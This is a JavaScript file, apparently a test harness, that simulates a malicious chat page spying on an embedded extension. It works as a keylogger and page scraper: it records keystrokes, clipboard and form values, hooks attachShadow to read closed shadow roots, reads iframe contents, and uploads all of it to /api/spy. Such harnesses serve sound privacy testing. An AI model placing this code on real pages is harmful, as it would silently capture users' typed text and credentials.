// Hostile mode (?hostile=1): records everything a malicious chat site could see and
// POSTs it to /api/spy. Loaded as a classic script in <head>, before anything else.
// window.__spy.flush() forces a snapshot + upload (returns a promise).

const user = new URLSearchParams(location.search).get('user') || 'anon';
const queue = [];
const rec = (kind, data) => queue.push({ kind, t: Date.now(), ...data });

const describe = (n) => {
  if (!n || n.nodeType !== 1) return n ? n.nodeName : String(n);
  return n.localName + (n.id ? `#${n.id}` : '') + (typeof n.className === 'string' && n.className ? `.${n.className.trim().split(/\s+/).join('.')}` : '');
};
const textOf = (t) => {
  if (!t || t.nodeType !== 1) return undefined;
  if (typeof t.value === 'string') return t.value;
  return t.isContentEditable ? t.innerText : undefined;
};

// 1. Input-ish events, captured at the document before anyone else sees them.
const EVENTS = ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'textInput', 'paste', 'copy', 'cut', 'drop',
  'compositionstart', 'compositionupdate', 'compositionend', 'focusin', 'focusout', 'selectionchange'];
for (const type of EVENTS) {
  document.addEventListener(type, (e) => rec(type, {
    key: e.key, code: e.code, data: e.data, inputType: e.inputType,
    clipboard: e.clipboardData?.getData('text/plain'),
    dropped: e.dataTransfer?.getData('text/plain'),
    target: describe(e.target), targetText: textOf(e.target),
    path: e.composedPath?.().slice(0, 6).map(describe),
    selection: type === 'selectionchange' ? String(getSelection()) : undefined,
  }), true);
}
addEventListener('message', (e) => {
  let data;
  try { data = typeof e.data === 'string' ? e.data : JSON.stringify(e.data); } catch { data = String(e.data); }
  rec('postMessage', { origin: e.origin, data });
});

// 2. Mutations on the document and every shadow root we can reach.
const roots = new Set(); // shadow roots observed
const mo = new MutationObserver((records) => {
  for (const r of records) {
    rec('mutation', {
      type: r.type, target: describe(r.target), attr: r.attributeName, old: r.oldValue,
      value: r.type === 'characterData' ? r.target.data
        : r.type === 'attributes' ? r.target.getAttribute?.(r.attributeName) : undefined,
      added: [...r.addedNodes].map((n) => n.textContent),
      removed: [...r.removedNodes].map((n) => n.textContent),
    });
    for (const n of r.addedNodes) findShadowRoots(n);
  }
});
const OBSERVE = { subtree: true, childList: true, characterData: true, characterDataOldValue: true, attributes: true, attributeOldValue: true };
function watchRoot(root) {
  if (roots.has(root)) return;
  roots.add(root);
  mo.observe(root, OBSERVE);
  findShadowRoots(root);
}
function findShadowRoots(node) {
  if (![1, 9, 11].includes(node.nodeType)) return; // element, document, shadow root
  if (node.shadowRoot) watchRoot(node.shadowRoot);
  for (const el of node.querySelectorAll('*')) if (el.shadowRoot) watchRoot(el.shadowRoot);
}
// A malicious page also hooks attachShadow to grab even closed roots created by page
// scripts. (Content scripts live in an isolated world and call the native method.)
const attachShadow = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) {
  const root = attachShadow.call(this, init);
  rec('attachShadow', { host: describe(this), mode: init?.mode });
  queueMicrotask(() => watchRoot(root));
  return root;
};
mo.observe(document, OBSERVE);

// 3. Periodic snapshots of everything readable (recorded only when changed).
let last = '';
function snapshot() {
  findShadowRoots(document);
  const snap = {
    innerText: document.documentElement.innerText,
    textContent: document.documentElement.textContent,
    shadowRoots: [...roots].map((r) => r.textContent),
    selection: String(getSelection()),
    active: describe(document.activeElement),
    values: [...document.querySelectorAll('input, textarea, select')].map((e) => e.value),
    resources: performance.getEntriesByType('resource').map((e) => e.name),
    iframes: [document, ...roots].flatMap((r) => [...r.querySelectorAll('iframe')]).map((f) => {
      try {
        return { src: f.src, href: f.contentWindow?.location.href, text: f.contentDocument?.documentElement?.textContent ?? null };
      } catch (e) {
        return { src: f.src, error: String(e) };
      }
    }),
  };
  const json = JSON.stringify(snap);
  if (json !== last) { last = json; rec('snapshot', snap); }
}

// 4. Upload in batches.
async function flush() {
  snapshot();
  if (!queue.length) return;
  const body = JSON.stringify({ user, kind: 'batch', data: queue.splice(0) });
  await fetch('/api/spy', { method: 'POST', headers: { 'content-type': 'application/json' }, body }).catch(() => {});
}
let flushing = Promise.resolve();
const schedule = () => (flushing = flushing.then(flush));
setInterval(schedule, 500);
addEventListener('pagehide', () => {
  snapshot();
  if (queue.length) navigator.sendBeacon('/api/spy', JSON.stringify({ user, kind: 'batch', data: queue.splice(0) }));
});
window.__spy = { flush: schedule };
